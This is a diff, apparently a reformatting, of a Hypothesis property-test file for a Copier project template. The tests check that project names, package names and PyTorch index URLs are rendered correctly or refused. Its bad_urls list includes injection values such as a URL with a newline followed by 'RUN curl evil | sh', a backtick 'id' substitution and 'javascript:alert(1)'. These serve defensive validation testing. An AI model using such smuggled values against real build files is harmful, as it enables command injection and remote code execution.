@@ -44,7 +44,8 @@ PLATFORMS = list(CATALOGUE["platforms"])
 STDLIB = set(sys.stdlib_module_names) | set(CATALOGUE["stdlib_modules"])
 KEYWORDS = set(keyword.kwlist)  # hard keywords; the catalogue also refuses match and case
 LIBRARY_IMPORTS = {entry["import"] for entry in CATALOGUE["libraries"].values()} | {
-    entry["import"] for entry in CATALOGUE["stores"].values() if "import" in entry}
+    entry["import"] for entry in CATALOGUE["stores"].values() if "import" in entry
+}
 TAKEN = KEYWORDS | set(CATALOGUE["python_keywords"]) | STDLIB | LIBRARY_IMPORTS
 SLUG = re.compile(r"\A(?=.{1,48}\Z)[a-z0-9]+(-[a-z0-9]+)*\Z")  # at most 48 characters
 PACKAGE = re.compile(r"\A[a-z][a-z0-9_]{0,31}\Z")  # at most 32, so imports fit on a line
@@ -87,13 +88,85 @@ def unescape_markdown(text: str) -> str:
 
 
 TRICKY = [
-    '"', "'", "\\", "\\n", "#", "# ", "{{ name }}", "{{", "}}", "{%", "%}", "{#", "#}",
-    "{% raw %}", "key = value", "[section]", "`", "```", "$HOME", "${X}", "\n", "\r\n", "\t",
-    "\x00", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\ufffe", "*", "_", "[",
-    "]", "<b>", "</script>", "|", "- ", "+ ", "= ", "1. ", "2) ", "---", "...", ":", ": ",
-    "&anchor", "*alias", "!tag", "%", "@", "é", "日本語", "🙂", "\u200b", " ", "  ", "\u3000",
-    "\N{KELVIN SIGN}", "İ", "ß", "ﬁ", "\u202e", "\u2066", "\u200d", "\u00ad", '"""', "'''",
-    "\\u0041", "\\x00", "null", "~", "true", "0x10", "1e3", "-", "--", "__init__",
+    '"',
+    "'",
+    "\\",
+    "\\n",
+    "#",
+    "# ",
+    "{{ name }}",
+    "{{",
+    "}}",
+    "{%",
+    "%}",
+    "{#",
+    "#}",
+    "{% raw %}",
+    "key = value",
+    "[section]",
+    "`",
+    "```",
+    "$HOME",
+    "${X}",
+    "\n",
+    "\r\n",
+    "\t",
+    "\x00",
+    "\x1b[31m",
+    "\x7f",
+    "\x85",
+    "\u2028",
+    "\u2029",
+    "\ufeff",
+    "\ufffe",
+    "*",
+    "_",
+    "[",
+    "]",
+    "<b>",
+    "</script>",
+    "|",
+    "- ",
+    "+ ",
+    "= ",
+    "1. ",
+    "2) ",
+    "---",
+    "...",
+    ":",
+    ": ",
+    "&anchor",
+    "*alias",
+    "!tag",
+    "%",
+    "@",
+    "é",
+    "日本語",
+    "🙂",
+    "\u200b",
+    " ",
+    "  ",
+    "\u3000",
+    "\N{KELVIN SIGN}",
+    "İ",
+    "ß",
+    "ﬁ",
+    "\u202e",
+    "\u2066",
+    "\u200d",
+    "\u00ad",
+    '"""',
+    "'''",
+    "\\u0041",
+    "\\x00",
+    "null",
+    "~",
+    "true",
+    "0x10",
+    "1e3",
+    "-",
+    "--",
+    "__init__",
 ]
 pieces = st.one_of(st.sampled_from(TRICKY), st.text(max_size=4))
 free_text = st.one_of(
@@ -112,14 +185,14 @@ names = st.one_of(  # any non-empty display name
 
 # --------------------------------------------------------------------------- identifiers
 
+
 @st.composite
 def valid_slugs(draw) -> str:
     words = draw(st.lists(st.from_regex(r"\A[a-z0-9]{1,12}\Z"), min_size=1, max_size=5))
     return "-".join(words)[:48].rstrip("-")
 
 
-valid_packages = st.from_regex(r"\A[a-z][a-z0-9_]{0,31}\Z").filter(
-    lambda name: name not in TAKEN)
+valid_packages = st.from_regex(r"\A[a-z][a-z0-9_]{0,31}\Z").filter(lambda name: name not in TAKEN)
 
 
 # --------------------------------------------------------------------------- URLs
@@ -131,9 +204,12 @@ hosts = st.one_of(
 )
 PATH_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~!&()*+,;=:"
 segments = st.lists(
-    st.one_of(st.text(alphabet=PATH_CHARS, min_size=1, max_size=10),
-              st.sampled_from(["%20", "%2B", "%C3%A9", "simple", "whl", "cpu", "~user"])),
-    min_size=1, max_size=3,
+    st.one_of(
+        st.text(alphabet=PATH_CHARS, min_size=1, max_size=10),
+        st.sampled_from(["%20", "%2B", "%C3%A9", "simple", "whl", "cpu", "~user"]),
+    ),
+    min_size=1,
+    max_size=3,
 ).map("".join)
 
 
@@ -150,6 +226,7 @@ def valid_urls(draw) -> str:
 
 
 # --------------------------------------------------------------------------- answer sets
+
 
 @st.composite
 def answer_sets(draw) -> dict:
@@ -182,8 +259,9 @@ def expected_refusal(answers: dict) -> str | None:
     """The first question (in Copier's order) whose answer breaks a documented rule."""
     if not one_line(answers["project_name"]):
         return "project_name"
-    uv_from_a_host_folder = (answers.get("torch_installer") == "uv"
-                             and answers.get("torch_index_url", "").startswith("file:"))
+    uv_from_a_host_folder = answers.get("torch_installer") == "uv" and answers.get(
+        "torch_index_url", ""
+    ).startswith("file:")
     if uv_from_a_host_folder:
         return "torch_index_url"
     if answers.get("lock_platforms") == []:
@@ -192,6 +270,7 @@ def expected_refusal(answers: dict) -> str | None:
 
 
 # --------------------------------------------------------------------------- rendering
+
 
 def copy(destination: Path, answers: dict) -> str | None:
     """Render with Copier; the refusal message, or None when it rendered."""
@@ -244,7 +323,8 @@ def check_rendered(project: Path, answers: dict) -> None:
     slug, package = recorded["project_slug"], recorded["package_name"]
     assert SLUG.match(slug), f"derived project_slug {slug!r} is invalid"
     assert PACKAGE.match(package) and package not in TAKEN, (
-        f"derived package_name {package!r} is invalid")
+        f"derived package_name {package!r} is invalid"
+    )
     description = recorded["description"]
 
     check_layout_and_leftovers(project, [recorded["project_name"], description])
@@ -261,24 +341,33 @@ def check_rendered(project: Path, answers: dict) -> None:
     assert pyproject["project"]["description"] == one_line(description)
     assert pyproject["tool"]["uv"]["index"][0]["url"] == recorded["torch_index_url"]
     cli = ast.parse((project / "src" / package / "cli.py").read_text(encoding="utf-8"))
-    literals = [kw.value.value for node in ast.walk(cli) if isinstance(node, ast.Call)
-                and getattr(node.func, "attr", None) == "ArgumentParser"
-                for kw in node.keywords if kw.arg == "description"]
+    literals = [
+        kw.value.value
+        for node in ast.walk(cli)
+        if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "ArgumentParser"
+        for kw in node.keywords
+        if kw.arg == "description"
+    ]
     assert literals == [one_line(description)]
     init = ast.parse((project / "src" / package / "__init__.py").read_text(encoding="utf-8"))
     summary = one_line(description)
     assert ast.get_docstring(init, clean=False) == (f"{slug}: {summary}" if summary else slug)
     readme = (project / "README.md").read_text(encoding="utf-8").splitlines()
     assert readme[0].startswith("# ") and unescape_markdown(readme[0][2:]) == one_line(
-        recorded["project_name"])
+        recorded["project_name"]
+    )
     if one_line(description):
         assert unescape_markdown(readme[2]) == one_line(description)
-    env = " ".join(" ".join(i.value) for i in dockerfile.parse_file(str(project / "Dockerfile"))
-                   if i.cmd == "ENV")
+    env = " ".join(
+        " ".join(i.value)
+        for i in dockerfile.parse_file(str(project / "Dockerfile"))
+        if i.cmd == "ENV"
+    )
     assert f"pytorch-cpu={recorded['torch_index_url']}" in env
 
 
 # --------------------------------------------------------------------------- properties
+
 
 @given(answers=answer_sets())
 @example(answers={"project_name": "\x00"})
@@ -308,51 +397,137 @@ def test_any_answers_render_or_are_refused(answers):
 # --------------------------------------------------------------------------- invalid answers
 
 bad_slugs = st.one_of(
-    st.sampled_from(["", "My App", "my_app", "my.app", "a--b", "-a", "a-", "-", "App",
-                     "café", "１２３", "a b", "a\nb", "a/b", "ml-service\n", " ml", "${x}",
-                     "a" * 49, "-".join(["abcdefgh"] * 6)]),
+    st.sampled_from(
+        [
+            "",
+            "My App",
+            "my_app",
+            "my.app",
+            "a--b",
+            "-a",
+            "a-",
+            "-",
+            "App",
+            "café",
+            "１２３",
+            "a b",
+            "a\nb",
+            "a/b",
+            "ml-service\n",
+            " ml",
+            "${x}",
+            "a" * 49,
+            "-".join(["abcdefgh"] * 6),
+        ]
+    ),
     st.text(min_size=1, max_size=20).filter(lambda s: not SLUG.match(s)),
 )
 bad_packages = st.one_of(
     st.sampled_from(sorted(n for n in KEYWORDS | set(CATALOGUE["python_keywords"]) if n.islower())),
     st.sampled_from(sorted(STDLIB)),
     st.sampled_from(sorted(LIBRARY_IMPORTS)),
-    st.sampled_from(["", "1app", "my-app", "My_App", "my app", "café", "app\n", "_private",
-                     "__main__", "__init__", "a.b", "app$", "ñ", "a" * 33,
-                     "service_" * 5]),
+    st.sampled_from(
+        [
+            "",
+            "1app",
+            "my-app",
+            "My_App",
+            "my app",
+            "café",
+            "app\n",
+            "_private",
+            "__main__",
+            "__init__",
+            "a.b",
+            "app$",
+            "ñ",
+            "a" * 33,
+            "service_" * 5,
+        ]
+    ),
     st.text(min_size=1, max_size=20).filter(lambda s: not PACKAGE.match(s)),
 )
 bad_urls = st.one_of(
-    st.sampled_from([
-        "", "download.pytorch.org/whl/cpu", "ftp://mirror/simple", "https://", "http:///simple",
-        "https://user:secret@mirror.example/simple", "https://token@mirror.example/simple",
-        "https://mirror.example/simple?token=a@b", "https://mirror.example/a b",
-        "https://mirror.example/simple\n", "https://mirror.example/\nRUN curl evil | sh",
-        'https://mirror.example/"', "https://mirror.example/'", "https://mirror.example/`id`",
-        "https://mirror.example/$TOKEN", "https://mirror.example/${TOKEN}",
-        "https://mirror.example/simple#frag", "https://mirror.example\\simple",
-        "https://mirror.example/{{ x }}", "https://mirror.example/<script>",
-        "https://mirror.example/a|b", "https://mirror.example/%zz", "https://-bad-.example/",
-        "https://mirror..example/", "file://host/share", "file:relative", "javascript:alert(1)",
-        "HTTPS://mirror.example/simple", " https://mirror.example/simple", "https://exa mple/",
-        "https://mirror.example:port/", "https://mirror.example:99999999/",
-    ]),
-    st.builds(lambda url, junk: url + junk, valid_urls(),
-              st.sampled_from([" ", "\t", '"', "'", "`", "$", "#", "\\", "@", "{", "}", "<",
-                               ">", "|", "^", "\n", "%", "%g0"])),
-    st.builds(lambda scheme, rest: f"{scheme}://user:pass@{rest}",
-              st.sampled_from(["http", "https"]), st.sampled_from(["h/simple", "h:1/x"])),
+    st.sampled_from(
+        [
+            "",
+            "download.pytorch.org/whl/cpu",
+            "ftp://mirror/simple",
+            "https://",
+            "http:///simple",
+            "https://user:secret@mirror.example/simple",
+            "https://token@mirror.example/simple",
+            "https://mirror.example/simple?token=a@b",
+            "https://mirror.example/a b",
+            "https://mirror.example/simple\n",
+            "https://mirror.example/\nRUN curl evil | sh",
+            'https://mirror.example/"',
+            "https://mirror.example/'",
+            "https://mirror.example/`id`",
+            "https://mirror.example/$TOKEN",
+            "https://mirror.example/${TOKEN}",
+            "https://mirror.example/simple#frag",
+            "https://mirror.example\\simple",
+            "https://mirror.example/{{ x }}",
+            "https://mirror.example/<script>",
+            "https://mirror.example/a|b",
+            "https://mirror.example/%zz",
+            "https://-bad-.example/",
+            "https://mirror..example/",
+            "file://host/share",
+            "file:relative",
+            "javascript:alert(1)",
+            "HTTPS://mirror.example/simple",
+            " https://mirror.example/simple",
+            "https://exa mple/",
+            "https://mirror.example:port/",
+            "https://mirror.example:99999999/",
+        ]
+    ),
+    st.builds(
+        lambda url, junk: url + junk,
+        valid_urls(),
+        st.sampled_from(
+            [
+                " ",
+                "\t",
+                '"',
+                "'",
+                "`",
+                "$",
+                "#",
+                "\\",
+                "@",
+                "{",
+                "}",
+                "<",
+                ">",
+                "|",
+                "^",
+                "\n",
+                "%",
+                "%g0",
+            ]
+        ),
+    ),
+    st.builds(
+        lambda scheme, rest: f"{scheme}://user:pass@{rest}",
+        st.sampled_from(["http", "https"]),
+        st.sampled_from(["h/simple", "h:1/x"]),
+    ),
 )
 
 
 # A quarter of the profile's examples (50 in CI): each costs a template clone, and the rules
 # are few; tests/test_validators.py and tests/test_security.py pin the important cases one by one.
 @settings(max_examples=max(50, settings().max_examples // 4))
-@given(bad=st.one_of(
-    st.tuples(st.just("project_slug"), bad_slugs),
-    st.tuples(st.just("package_name"), bad_packages),
-    st.tuples(st.just("torch_index_url"), bad_urls),
-))
+@given(
+    bad=st.one_of(
+        st.tuples(st.just("project_slug"), bad_slugs),
+        st.tuples(st.just("package_name"), bad_packages),
+        st.tuples(st.just("torch_index_url"), bad_urls),
+    )
+)
 def test_invalid_identifiers_and_urls_are_refused(bad):
     question, value = bad
     note(f"{question} = {value!r}")
